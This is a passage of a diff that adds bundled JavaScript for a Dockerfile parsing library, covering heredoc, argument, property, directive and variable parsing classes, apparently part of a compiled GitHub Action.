+                                    break escapeCheck;
+                            }
+                        }
+                        escapedInstruction = false;
+                    }
+                    if (instructionEnd === -1) {
+                        instructionEnd = i;
+                    }
+                    i = this.processArguments(dockerfile, instruction, instructionEnd, start, i);
+                    dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, instructionEnd, i));
+                    return i;
+                case '\r':
+                case '\n':
+                    if (escapedInstruction) {
+                        continue;
+                    }
+                    if (instructionEnd === -1) {
+                        instructionEnd = i;
+                    }
+                    dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, i, i));
+                    return i;
+                case '#':
+                    if (escapedInstruction) {
+                        continue;
+                    }
+                default:
+                    instructionEnd = i + 1;
+                    instruction = instruction + char;
+                    escapedInstruction = false;
+                    break;
+            }
+        }
+        // reached EOF
+        if (instructionEnd === -1) {
+            instructionEnd = this.buffer.length;
+        }
+        dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, instructionEnd, this.buffer.length));
+        return this.buffer.length;
+    }
+    processHeredocs(instruction, offset) {
+        let keyword = instruction.getKeyword();
+        if (keyword === main_1.Keyword.ONBUILD) {
+            instruction = instruction.getTriggerInstruction();
+            if (instruction === null) {
+                return offset;
+            }
+            keyword = instruction.getKeyword();
+        }
+        if (keyword !== main_1.Keyword.ADD && keyword !== main_1.Keyword.COPY && keyword !== main_1.Keyword.RUN) {
+            return offset;
+        }
+        const heredocs = [];
+        let tabbed = false;
+        for (const arg of instruction.getArguments()) {
+            const value = arg.getValue();
+            if (value.startsWith("<<") && value.length > 2) {
+                if (value.startsWith("<<-")) {
+                    tabbed = true;
+                }
+                const name = util_1.Util.parseHeredocName(value);
+                if (name !== null) {
+                    heredocs.push(name);
+                }
+            }
+        }
+        if (heredocs.length > 0) {
+            for (const heredoc of heredocs) {
+                offset = this.parseHeredoc(heredoc, offset, tabbed);
+            }
+        }
+        return offset;
+    }
+    processArguments(dockerfile, instruction, instructionEnd, start, offset) {
+        let escaped = false;
+        argumentsCheck: for (let i = offset + 1; i < this.buffer.length; i++) {
+            switch (this.buffer.charAt(i)) {
+                case '\r':
+                case '\n':
+                    if (escaped) {
+                        continue;
+                    }
+                    return this.processHeredocs(this.createInstruction(dockerfile, instruction, start, instructionEnd, i), i);
+                case this.escapeChar:
+                    const next = this.buffer.charAt(i + 1);
+                    if (next === '\n' || next === '\r') {
+                        escaped = true;
+                        i++;
+                    }
+                    else if (next === ' ' || next === '\t') {
+                        for (let j = i + 2; j < this.buffer.length; j++) {
+                            switch (this.buffer.charAt(j)) {
+                                case ' ':
+                                case '\t':
+                                    break;
+                                case '\r':
+                                case '\n':
+                                    escaped = true;
+                                default:
+                                    i = j;
+                                    continue argumentsCheck;
+                            }
+                        }
+                        // reached EOF
+                        return this.buffer.length;
+                    }
+                    continue;
+                case '#':
+                    if (escaped) {
+                        i = this.processComment(dockerfile, i);
+                        continue argumentsCheck;
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                    break;
+                default:
+                    if (escaped) {
+                        escaped = false;
+                    }
+                    break;
+            }
+        }
+        return this.buffer.length;
+    }
+    processComment(dockerfile, start) {
+        let end = this.buffer.length;
+        commentLoop: for (let i = start + 1; i < this.buffer.length; i++) {
+            switch (this.buffer.charAt(i)) {
+                case '\r':
+                case '\n':
+                    end = i;
+                    break commentLoop;
+            }
+        }
+        const range = vscode_languageserver_types_1.Range.create(this.document.positionAt(start), this.document.positionAt(end));
+        dockerfile.addComment(new comment_1.Comment(this.document, range));
+        return end;
+    }
+    parseHeredoc(heredocName, offset, tabbed) {
+        let startWord = -1;
+        let lineStart = true;
+        for (let i = offset; i < this.buffer.length; i++) {
+            switch (this.buffer.charAt(i)) {
+                case ' ':
+                    lineStart = false;
+                    break;
+                case '\t':
+                    if (!tabbed) {
+                        lineStart = false;
+                    }
+                    break;
+                case '\r':
+                case '\n':
+                    if (startWord !== -1 && heredocName === this.buffer.substring(startWord, i)) {
+                        return i;
+                    }
+                    startWord = -1;
+                    lineStart = true;
+                    break;
+                default:
+                    if (lineStart) {
+                        startWord = i;
+                        lineStart = false;
+                    }
+                    break;
+            }
+        }
+        return this.buffer.length;
+    }
+    createInstruction(dockerfile, instruction, start, instructionEnd, end) {
+        const startPosition = this.document.positionAt(start);
+        const instructionRange = vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(instructionEnd));
+        const lineRange = vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(end));
+        return Parser.createInstruction(this.document, dockerfile, this.escapeChar, lineRange, instruction, instructionRange);
+    }
+}
+exports.Parser = Parser;
+
+
+/***/ }),
+
+/***/ 7499:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ParserDirective = void 0;
+const main_1 = __nccwpck_require__(8390);
+const line_1 = __nccwpck_require__(7005);
+class ParserDirective extends line_1.Line {
+    constructor(document, range, nameRange, valueRange) {
+        super(document, range);
+        this.nameRange = nameRange;
+        this.valueRange = valueRange;
+    }
+    toString() {
+        return "# " + this.getName() + '=' + this.getValue();
+    }
+    getNameRange() {
+        return this.nameRange;
+    }
+    getValueRange() {
+        return this.valueRange;
+    }
+    getName() {
+        return this.document.getText().substring(this.document.offsetAt(this.nameRange.start), this.document.offsetAt(this.nameRange.end));
+    }
+    getValue() {
+        return this.document.getText().substring(this.document.offsetAt(this.valueRange.start), this.document.offsetAt(this.valueRange.end));
+    }
+    getDirective() {
+        const directive = main_1.Directive[this.getName().toLowerCase()];
+        return directive === undefined ? null : directive;
+    }
+}
+exports.ParserDirective = ParserDirective;
+
+
+/***/ }),
+
+/***/ 9602:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Property = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const util_1 = __nccwpck_require__(7459);
+class Property {
+    constructor(document, escapeChar, arg, arg2) {
+        this.assignmentOperatorRange = null;
+        this.assignmentOperator = null;
+        this.valueRange = null;
+        this.value = null;
+        this.document = document;
+        this.escapeChar = escapeChar;
+        this.nameRange = Property.getNameRange(document, arg);
+        let value = document.getText().substring(document.offsetAt(this.nameRange.start), document.offsetAt(this.nameRange.end));
+        this.name = Property.getValue(value, escapeChar);
+        if (arg2) {
+            this.valueRange = arg2.getRange();
+            value = document.getText().substring(document.offsetAt(this.valueRange.start), document.offsetAt(this.valueRange.end));
+            this.value = Property.getValue(value, escapeChar);
+            this.range = vscode_languageserver_types_1.Range.create(this.nameRange.start, this.valueRange.end);
+        }
+        else {
+            let argRange = arg.getRange();
+            if (this.nameRange.start.line === argRange.start.line
+                && this.nameRange.start.character === argRange.start.character
+                && this.nameRange.end.line === argRange.end.line
+                && this.nameRange.end.character === argRange.end.character) {
+            }
+            else {
+                this.valueRange = Property.getValueRange(document, arg);
+                value = document.getText().substring(document.offsetAt(this.valueRange.start), document.offsetAt(this.valueRange.end));
+                this.value = Property.getValue(value, escapeChar);
+                this.assignmentOperatorRange = vscode_languageserver_types_1.Range.create(this.nameRange.end, this.valueRange.start);
+                this.assignmentOperator = "=";
+            }
+            this.range = argRange;
+        }
+    }
+    getRange() {
+        return this.range;
+    }
+    getName() {
+        return this.name;
+    }
+    getNameRange() {
+        return this.nameRange;
+    }
+    getValue() {
+        return this.value;
+    }
+    getValueRange() {
+        return this.valueRange;
+    }
+    /**
+     * Retrieves the operator used for delimiting between the name and
+     * value of this property. This will either be the "=" character
+     * or null if a character was not used or if this property has no
+     * value defined.
+     */
+    getAssignmentOperator() {
+        return this.assignmentOperator;
+    }
+    getAssignmentOperatorRange() {
+        return this.assignmentOperatorRange;
+    }
+    /**
+     * Returns the value of this property including any enclosing
+     * single or double quotes and relevant escape characters.
+     * Escaped newlines and its associated contiguous whitespace
+     * characters however will not be returned as they are deemed to
+     * be uninteresting to clients trying to return a Dockerfile.
+     *
+     * @return the unescaped value of this property or null if this
+     *         property has no associated value
+     */
+    getUnescapedValue() {
+        if (this.valueRange === null) {
+            return null;
+        }
+        let escaped = false;
+        let rawValue = "";
+        let value = this.document.getText().substring(this.document.offsetAt(this.valueRange.start), this.document.offsetAt(this.valueRange.end));
+        rawLoop: for (let i = 0; i < value.length; i++) {
+            let char = value.charAt(i);
+            switch (char) {
+                case this.escapeChar:
+                    for (let j = i + 1; j < value.length; j++) {
+                        switch (value.charAt(j)) {
+                            case '\r':
+                                j++;
+                            case '\n':
+                                escaped = true;
+                                i = j;
+                                continue rawLoop;
+                            case ' ':
+                            case '\t':
+                                break;
+                            default:
+                                rawValue = rawValue + char;
+                                continue rawLoop;
+                        }
+                    }
+                    // this happens if there's only whitespace after the escape character
+                    rawValue = rawValue + char;
+                    break;
+                case '\r':
+                case '\n':
+                    break;
+                case ' ':
+                case '\t':
+                    if (!escaped) {
+                        rawValue = rawValue + char;
+                    }
+                    break;
+                case '#':
+                    if (escaped) {
+                        for (let j = i + 1; j < value.length; j++) {
+                            switch (value.charAt(j)) {
+                                case '\r':
+                                    j++;
+                                case '\n':
+                                    i = j;
+                                    continue rawLoop;
+                            }
+                        }
+                    }
+                    else {
+                        rawValue = rawValue + char;
+                    }
+                    break;
+                default:
+                    rawValue = rawValue + char;
+                    escaped = false;
+                    break;
+            }
+        }
+        return rawValue;
+    }
+    static getNameRange(document, arg) {
+        let value = arg.getValue();
+        let index = value.indexOf('=');
+        if (index !== -1) {
+            let initial = value.charAt(0);
+            let before = value.charAt(index - 1);
+            // check if content before the equals sign are in quotes
+            // "var"=value
+            // 'var'=value
+            // otherwise, just assume it's a standard definition
+            // var=value
+            if ((initial === '"' && before === '"') || (initial === '\'' && before === '\'') || (initial !== '"' && initial !== '\'')) {
+                return vscode_languageserver_types_1.Range.create(arg.getRange().start, document.positionAt(document.offsetAt(arg.getRange().start) + index));
+            }
+        }
+        // no '=' found, just defined the property's name
+        return arg.getRange();
+    }
+    static getValueRange(document, arg) {
+        return vscode_languageserver_types_1.Range.create(document.positionAt(document.offsetAt(arg.getRange().start) + arg.getValue().indexOf('=') + 1), document.positionAt(document.offsetAt(arg.getRange().end)));
+    }
+    /**
+     * Returns the actual value of this key-value pair. The value will
+     * have its escape characters removed if applicable. If the value
+     * spans multiple lines and there are comments nested within the
+     * lines, they too will be removed.
+     *
+     * @return the value that this key-value pair will actually be, may
+     *         be null if no value is defined, may be the empty string
+     *         if the value only consists of whitespace
+     */
+    static getValue(value, escapeChar) {
+        let escaped = false;
+        const skip = util_1.Util.findLeadingNonWhitespace(value, escapeChar);
+        if (skip !== 0 && value.charAt(skip) === '#') {
+            // need to skip over comments
+            escaped = true;
+        }
+        value = value.substring(skip);
+        let first = value.charAt(0);
+        let last = value.charAt(value.length - 1);
+        let literal = first === '\'' || first === '"';
+        let inSingle = (first === '\'' && last === '\'');
+        let inDouble = false;
+        if (first === '"') {
+            for (let i = 1; i < value.length; i++) {
+                if (value.charAt(i) === escapeChar) {
+                    i++;
+                }
+                else if (value.charAt(i) === '"' && i === value.length - 1) {
+                    inDouble = true;
+                }
+            }
+        }
+        if (inSingle || inDouble) {
+            value = value.substring(1, value.length - 1);
+        }
+        let commentCheck = -1;
+        let escapedValue = "";
+        let start = 0;
+        parseValue: for (let i = 0; i < value.length; i++) {
+            let char = value.charAt(i);
+            switch (char) {
+                case escapeChar:
+                    if (i + 1 === value.length) {
+                        escapedValue = escapedValue + escapeChar;
+                        break parseValue;
+                    }
+                    char = value.charAt(i + 1);
+                    if (char === ' ' || char === '\t') {
+                        whitespaceCheck: for (let j = i + 2; j < value.length; j++) {
+                            let char2 = value.charAt(j);
+                            switch (char2) {
+                                case ' ':
+                                case '\t':
+                                    break;
+                                case '\r':
+                                    j++;
+                                case '\n':
+                                    escaped = true;
+                                    i = j;
+                                    continue parseValue;
+                                default:
+                                    if (!inDouble && !inSingle && !literal) {
+                                        if (char2 === escapeChar) {
+                                            // add the escaped character
+                                            escapedValue = escapedValue + char;
+                                            // now start parsing from the next escape character
+                                            i = i + 1;
+                                        }
+                                        else {
+                                            // the expectation is that this j = i + 2 here
+                                            escapedValue = escapedValue + char + char2;
+                                            i = j;
+                                        }
+                                        continue parseValue;
+                                    }
+                                    break whitespaceCheck;
+                            }
+                        }
+                    }
+                    if (inDouble) {
+                        if (char === '\r') {
+                            escaped = true;
+                            i = i + 2;
+                        }
+                        else if (char === '\n') {
+                            escaped = true;
+                            i++;
+                        }
+                        else if (char !== '"') {
+                            if (char === escapeChar) {
+                                i++;
+                            }
+                            escapedValue = escapedValue + escapeChar;
+                        }
+                        continue parseValue;
+                    }
+                    else if (inSingle || literal) {
+                        if (char === '\r') {
+                            escaped = true;
+                            i = i + 2;
+                        }
+                        else if (char === '\n') {
+                            escaped = true;
+                            i++;
+                        }
+                        else {
+                            escapedValue = escapedValue + escapeChar;
+                        }
+                        continue parseValue;
+                    }
+                    else if (char === escapeChar) {
+                        // double escape, append one and move on
+                        escapedValue = escapedValue + escapeChar;
+                        i++;
+                    }
+                    else if (char === '\r') {
+                        escaped = true;
+                        // offset one more for \r\n
+                        i = i + 2;
+                    }
+                    else if (char === '\n') {
+                        escaped = true;
+                        i++;
+                        start = i;
+                    }
+                    else {
+                        // any other escapes are simply ignored
+                        escapedValue = escapedValue + char;
+                        i++;
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                    if (escaped && commentCheck === -1) {
+                        commentCheck = i;
+                    }
+                    escapedValue = escapedValue + char;
+                    break;
+                case '\r':
+                    i++;
+                case '\n':
+                    if (escaped && commentCheck !== -1) {
+                        // rollback and remove the whitespace that was previously appended
+                        escapedValue = escapedValue.substring(0, escapedValue.length - (i - commentCheck - 1));
+                        commentCheck = -1;
+                    }
+                    break;
+                case '#':
+                    // a newline was escaped and now there's a comment
+                    if (escaped) {
+                        if (commentCheck !== -1) {
+                            // rollback and remove the whitespace that was previously appended
+                            escapedValue = escapedValue.substring(0, escapedValue.length - (i - commentCheck));
+                            commentCheck = -1;
+                        }
+                        newlineCheck: for (let j = i + 1; j < value.length; j++) {
+                            switch (value.charAt(j)) {
+                                case '\r':
+                                    j++;
+                                case '\n':
+                                    i = j;
+                                    break newlineCheck;
+                            }
+                        }
+                        continue parseValue;
+                    }
+                default:
+                    if (escaped) {
+                        escaped = false;
+                        commentCheck = -1;
+                    }
+                    escapedValue = escapedValue + char;
+                    break;
+            }
+        }
+        return escapedValue;
+    }
+}
+exports.Property = Property;
+
+
+/***/ }),
+
+/***/ 4984:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.PropertyInstruction = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const instruction_1 = __nccwpck_require__(5279);
+const property_1 = __nccwpck_require__(9602);
+const argument_1 = __nccwpck_require__(5940);
+const util_1 = __nccwpck_require__(7459);
+class PropertyInstruction extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+        this.properties = undefined;
+    }
+    getProperties() {
+        if (this.properties === undefined) {
+            let args = this.getPropertyArguments();
+            if (args.length === 0) {
+                this.properties = [];
+            }
+            else if (args.length === 1) {
+                this.properties = [new property_1.Property(this.document, this.escapeChar, args[0])];
+            }
+            else if (args.length === 2) {
+                if (args[0].getValue().indexOf('=') === -1) {
+                    this.properties = [new property_1.Property(this.document, this.escapeChar, args[0], args[1])];
+                }
+                else {
+                    this.properties = [
+                        new property_1.Property(this.document, this.escapeChar, args[0]),
+                        new property_1.Property(this.document, this.escapeChar, args[1])
+                    ];
+                }
+            }
+            else if (args[0].getValue().indexOf('=') === -1) {
+                let text = this.document.getText();
+                let start = args[1].getRange().start;
+                let end = args[args.length - 1].getRange().end;
+                text = text.substring(this.document.offsetAt(start), this.document.offsetAt(end));
+                this.properties = [new property_1.Property(this.document, this.escapeChar, args[0], new argument_1.Argument(text, vscode_languageserver_types_1.Range.create(args[1].getRange().start, args[args.length - 1].getRange().end)))];
+            }
+            else {
+                this.properties = [];
+                for (let i = 0; i < args.length; i++) {
+                    this.properties.push(new property_1.Property(this.document, this.escapeChar, args[i]));
+                }
+            }
+        }
+        return this.properties;
+    }
+    /**
+     * Goes from the back of the string and returns the first
+     * non-whitespace character that is found. If an escape character
+     * is found with newline characters, the escape character will
+     * not be considered a non-whitespace character and its index in
+     * the string will not be returned.
+     *
+     * @param content the string to search through
+     * @return the index in the string for the first non-whitespace
+     *         character when searching from the end of the string
+     */
+    findTrailingNonWhitespace(content) {
+        // loop back to find the first non-whitespace character
+        let index = content.length;
+        whitespaceCheck: for (let i = content.length - 1; i >= 0; i--) {
+            switch (content.charAt(i)) {
+                case ' ':
+                case '\t':
+                    continue;
+                case '\n':
+                    if (content.charAt(i - 1) === '\r') {
+                        i = i - 1;
+                    }
+                case '\r':
+                    newlineCheck: for (let j = i - 1; j >= 0; j--) {
+                        switch (content.charAt(j)) {
+                            case ' ':
+                            case '\t':
+                            case '\r':
+                            case '\n':
+                            case this.escapeChar:
+                                continue;
+                            default:
+                                index = j;
+                                break newlineCheck;
+                        }
+                    }
+                    break whitespaceCheck;
+                default:
+                    index = i;
+                    break whitespaceCheck;
+            }
+        }
+        return index;
+    }
+    getPropertyArguments() {
+        const args = [];
+        let range = this.getInstructionRange();
+        let instructionNameEndOffset = this.document.offsetAt(range.end);
+        let extra = instructionNameEndOffset - this.document.offsetAt(range.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra);
+        let start = util_1.Util.findLeadingNonWhitespace(fullArgs, this.escapeChar);
+        if (start === -1) {
+            // only whitespace found, no arguments
+            return [];
+        }
+        const startPosition = this.document.positionAt(instructionNameEndOffset + start);
+        // records whether the parser has just processed an escaped newline or not,
+        // if our starting position is not on the same line as the instruction then
+        // the start of the content is already on an escaped line
+        let escaped = range.start.line !== startPosition.line;
+        // flag to track if the last character was an escape character
+        let endingEscape = false;
+        // position before the first escape character was hit
+        let mark = -1;
+        let end = this.findTrailingNonWhitespace(fullArgs);
+        content = fullArgs.substring(start, end + 1);
+        let argStart = escaped ? -1 : 0;
+        let spaced = false;
+        argumentLoop: for (let i = 0; i < content.length; i++) {
+            let char = content.charAt(i);
+            switch (char) {
+                case this.escapeChar:
+                    if (i + 1 === content.length) {
+                        endingEscape = true;
+                        break argumentLoop;
+                    }
+                    if (!escaped) {
+                        mark = i;
+                    }
+                    switch (content.charAt(i + 1)) {
+                        case ' ':
+                        case '\t':
+                            if (!util_1.Util.isWhitespace(content.charAt(i + 2))) {
+                                // space was escaped, continue as normal
+                                i = i + 1;
+                                continue argumentLoop;
+                            }
+                            // whitespace encountered, need to figure out if it extends to EOL
+                            whitespaceCheck: for (let j = i + 2; j < content.length; j++) {
+                                switch (content.charAt(j)) {
+                                    case '\r':
+                                        // offset one more for \r\n
+                                        j++;
+                                    case '\n':
+                                        // whitespace only, safe to skip
+                                        escaped = true;
+                                        i = j;
+                                        continue argumentLoop;
+                                    case ' ':
+                                    case '\t':
+                                        // ignore whitespace
+                                        break;
+                                    default:
+                                        // whitespace doesn't extend to EOL, create an argument
+                                        args.push(new argument_1.Argument(content.substring(argStart, i), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + i + 2))));
+                                        argStart = j;
+                                        break whitespaceCheck;
+                                }
+                            }
+                            // go back and start processing the encountered non-whitespace character
+                            i = argStart - 1;
+                            continue argumentLoop;
+                        case '\r':
+                            // offset one more for \r\n
+                            i++;
+                        case '\n':
+                            // immediately followed by a newline, skip the newline
+                            escaped = true;
+                            i = i + 1;
+                            continue argumentLoop;
+                        case this.escapeChar:
+                            // double escape found, skip it and move on
+                            if (argStart === -1) {
+                                argStart = i;
+                            }
+                            i = i + 1;
+                            continue argumentLoop;
+                        default:
+                            if (argStart === -1) {
+                                argStart = i;
+                            }
+                            // non-whitespace encountered, skip the escape and process the
+                            // character normally
+                            continue argumentLoop;
+                    }
+                case '\'':
+                case '"':
+                    if (spaced) {
+                        this.createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start);
+                        // reset to start a new argument
+                        argStart = i;
+                        spaced = false;
+                    }
+                    if (argStart === -1) {
+                        argStart = i;
+                    }
+                    for (let j = i + 1; j < content.length; j++) {
+                        switch (content.charAt(j)) {
+                            case char:
+                                if (content.charAt(j + 1) !== ' ' && content.charAt(j + 1) !== '') {
+                                    // there is more content after this quote,
+                                    // continue so that it is all processed as
+                                    // one single argument
+                                    i = j;
+                                    continue argumentLoop;
+                                }
+                                args.push(new argument_1.Argument(content.substring(argStart, j + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + j + 1))));
+                                i = j;
+                                argStart = -1;
+                                continue argumentLoop;
+                            case this.escapeChar:
+                                j++;
+                                break;
+                        }
+                    }
+                    break argumentLoop;
+                case ' ':
+                case '\t':
+                    if (escaped) {
+                        // consider there to be a space only if an argument
+                        // is not spanning multiple lines
+                        if (argStart !== -1) {
+                            spaced = true;
+                        }
+                    }
+                    else if (argStart !== -1) {
+                        args.push(new argument_1.Argument(content.substring(argStart, i), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + i))));
+                        argStart = -1;
+                    }
+                    break;
+                case '\r':
+                    // offset one more for \r\n
+                    i++;
+                case '\n':
+                    spaced = false;
+                    break;
+                case '#':
+                    if (escaped) {
+                        // a newline was escaped and now there's a comment
+                        for (let j = i + 1; j < content.length; j++) {
+                            switch (content.charAt(j)) {
+                                case '\r':
+                                    j++;
+                                case '\n':
+                                    i = j;
+                                    spaced = false;
+                                    continue argumentLoop;
+                            }
+                        }
+                        // went to the end without finding a newline,
+                        // the comment was the last line in the instruction,
+                        // just stop parsing, create an argument if needed
+                        if (argStart !== -1) {
+                            let value = content.substring(argStart, mark);
+                            args.push(new argument_1.Argument(value, vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + mark))));
+                            argStart = -1;
+                        }
+                        break argumentLoop;
+                    }
+                    else if (argStart === -1) {
+                        argStart = i;
+                    }
+                    break;
+                default:
+                    if (spaced) {
+                        this.createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start);
+                        // reset to start a new argument
+                        argStart = i;
+                        spaced = false;
+                    }
+                    escaped = false;
+                    if (argStart === -1) {
+                        argStart = i;
+                    }
+                    // variable detected
+                    if (char === '$' && content.charAt(i + 1) === '{') {
+                        let singleQuotes = false;
+                        let doubleQuotes = false;
+                        let escaped = false;
+                        for (let j = i + 1; j < content.length; j++) {
+                            switch (content.charAt(j)) {
+                                case this.escapeChar:
+                                    escaped = true;
+                                    break;
+                                case '\r':
+                                case '\n':
+                                    break;
+                                case '\'':
+                                    singleQuotes = !singleQuotes;
+                                    escaped = false;
+                                    break;
+                                case '"':
+                                    doubleQuotes = !doubleQuotes;
+                                    escaped = false;
+                                    break;
+                                case ' ':
+                                case '\t':
+                                    if (escaped || singleQuotes || doubleQuotes) {
+                                        break;
+                                    }
+                                    i = j - 1;
+                                    continue argumentLoop;
+                                case '}':
+                                    i = j;
+                                    continue argumentLoop;
+                                default:
+                                    escaped = false;
+                                    break;
+                            }
+                        }
+                        break argumentLoop;
+                    }
+                    break;
+            }
+        }
+        if (argStart !== -1 && argStart !== content.length) {
+            let end = endingEscape ? content.length - 1 : content.length;
+            let value = content.substring(argStart, end);
+            args.push(new argument_1.Argument(value, vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + end))));
+        }
+        return args;
+    }
+    createSpacedArgument(argStart, args, content, mark, instructionNameEndOffset, start) {
+        if (argStart !== -1) {
+            args.push(new argument_1.Argument(content.substring(argStart, mark), vscode_languageserver_types_1.Range.create(this.document.positionAt(instructionNameEndOffset + start + argStart), this.document.positionAt(instructionNameEndOffset + start + mark))));
+        }
+    }
+}
+exports.PropertyInstruction = PropertyInstruction;
+
+
+/***/ }),
+
+/***/ 7459:
+/***/ ((__unused_webpack_module, exports) => {
+
+/* --------------------------------------------------------------------------------------------
+ * Copyright (c) Remy Suen. All rights reserved.
+ * Licensed under the MIT License. See License.txt in the project root for license information.
+ * ------------------------------------------------------------------------------------------ */
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Util = void 0;
+class Util {
+    static isUTF8BOM(char) {
+        const uintArray = Uint8Array.from(Buffer.from(char, "UTF-8"));
+        return uintArray[0] === 0xEF && uintArray[1] == 0xBB && uintArray[2] == 0xBF;
+    }
+    static isWhitespace(char) {
+        return char === ' ' || char === '\t' || Util.isNewline(char);
+    }
+    static isNewline(char) {
+        return char === '\r' || char === '\n';
+    }
+    static findLeadingNonWhitespace(content, escapeChar) {
+        whitespaceCheck: for (let i = 0; i < content.length; i++) {
+            switch (content.charAt(i)) {
+                case ' ':
+                case '\t':
+                    continue;
+                case escapeChar:
+                    escapeCheck: for (let j = i + 1; j < content.length; j++) {
+                        switch (content.charAt(j)) {
+                            case ' ':
+                            case '\t':
+                                continue;
+                            case '\r':
+                                // offset one more for \r\n
+                                i = j + 1;
+                                continue whitespaceCheck;
+                            case '\n':
+                                i = j;
+                                continue whitespaceCheck;
+                            default:
+                                break escapeCheck;
+                        }
+                    }
+                    // found an escape character and then reached EOF
+                    return -1;
+                default:
+                    return i;
+            }
+        }
+        // only possible if the content is the empty string
+        return -1;
+    }
+    /**
+     * Determines if the given position is contained within the given range.
+     *
+     * @param position the position to check
+     * @param range the range to see if the position is inside of
+     */
+    static isInsideRange(position, range) {
+        if (range.start.line === range.end.line) {
+            return range.start.line === position.line
+                && range.start.character <= position.character
+                && position.character <= range.end.character;
+        }
+        else if (range.start.line === position.line) {
+            return range.start.character <= position.character;
+        }
+        else if (range.end.line === position.line) {
+            return position.character <= range.end.character;
+        }
+        return range.start.line < position.line && position.line < range.end.line;
+    }
+    static parseHeredocName(value) {
+        value = value.substring(2);
+        if (value.charAt(0) === '-') {
+            value = value.substring(1);
+        }
+        if (value.charAt(0) === '"') {
+            if (value.charAt(value.length - 1) !== '"') {
+                return null;
+            }
+            value = value.substring(1, value.length - 1);
+        }
+        if (value.charAt(0) === '\'') {
+            if (value.charAt(value.length - 1) !== '\'') {
+                return null;
+            }
+            value = value.substring(1, value.length - 1);
+        }
+        if (value.charAt(0) === "<") {
+            return null;
+        }
+        return value;
+    }
+}
+exports.Util = Util;
+
+
+/***/ }),
+
+/***/ 3743:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Variable = void 0;
+class Variable {
+    constructor(name, nameRange, range, modifier, modifierRange, substitutionParameter, substitutionRange, defined, buildVariable, stringValue) {
+        this.name = name;
+        this.nameRange = nameRange;
+        this.range = range;
+        this.modifier = modifier;
+        this.modifierRange = modifierRange;
+        this.substitutionParameter = substitutionParameter;
+        this.substitutionRange = substitutionRange;
+        this.defined = defined;
+        this.buildVariable = buildVariable;
+        this.stringValue = stringValue;
+    }
+    toString() {
+        return this.stringValue;
+    }
+    getName() {
+        return this.name;
+    }
+    getNameRange() {
+        return this.nameRange;
+    }
+    /**
+     * Returns the range of the entire variable. This includes the symbols for
+     * the declaration of the variable such as the $, {, and } symbols.
+     *
+     * @return the range in the document that this variable encompasses in its
+     *         entirety
+     */
+    getRange() {
+        return this.range;
+    }
+    /**
+     * Returns the modifier character that has been set for
+     * specifying how this variable should be expanded and resolved.
+     * If this variable is ${variable:+value} then the modifier
+     * character is '+'. Will be the empty string if the variable is
+     * declared as ${variable:}. Otherwise, will be null if this
+     * variable will not use variable substitution at all (such as
+     * ${variable} or $variable).
+     *
+     * @return this variable's modifier character, or the empty
+     *         string if it does not have one, or null if this
+     *         variable will not use variable substitution
+     */
+    getModifier() {
+        return this.modifier;
+    }
+    getModifierRange() {
+        return this.modifierRange;
+    }
+    /**
+     * Returns the parameter that will be used for substitution if
+     * this variable uses modifiers to define how its value should be
+     * resolved. If this variable is ${variable:+value} then the
+     * substitution value will be 'value'. Will be the empty string
+     * if the variable is declared as ${variable:+} or some other
+     * variant where the only thing that follows the modifier
+     * character (excluding considerations of escape characters and
+     * so on) is the variable's closing bracket. May be null if this
+     * variable does not have a modifier character defined (such as
+     * ${variable} or $variable).
+     *
+     * @return this variable's substitution parameter, or the empty
+     *         string if it does not have one, or null if there is
+     *         not one defined
+     */
+    getSubstitutionParameter() {
+        return this.substitutionParameter;
+    }
+    getSubstitutionRange() {
+        return this.substitutionRange;
+    }
+    /**
+     * Returns whether this variable has been defined or not.
+     *
+     * @return true if this variable has been defined, false otherwise
+     */
+    isDefined() {
+        return this.defined;
+    }
+    isBuildVariable() {
+        return this.buildVariable === true;
+    }
+    isEnvironmentVariable() {
+        return this.buildVariable === false;
+    }
+}
+exports.Variable = Variable;
+
+
+/***/ }),
+
 /***/ 298:
 /***/ ((module) => {
 
@@ -32513,6 +36714,2824 @@ module.exports = {
 
 /***/ }),
 
+/***/ 3383:
+/***/ (function(module, exports) {
+
+var __spreadArray = (this && this.__spreadArray) || function (to, from, pack) {
+    if (pack || arguments.length === 2) for (var i = 0, l = from.length, ar; i < l; i++) {
+        if (ar || !(i in from)) {
+            if (!ar) ar = Array.prototype.slice.call(from, 0, i);
+            ar[i] = from[i];
+        }
+    }
+    return to.concat(ar || Array.prototype.slice.call(from));
+};
+(function (factory) {
+    if ( true && typeof module.exports === "object") {
+        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
+        if (v !== undefined) module.exports = v;
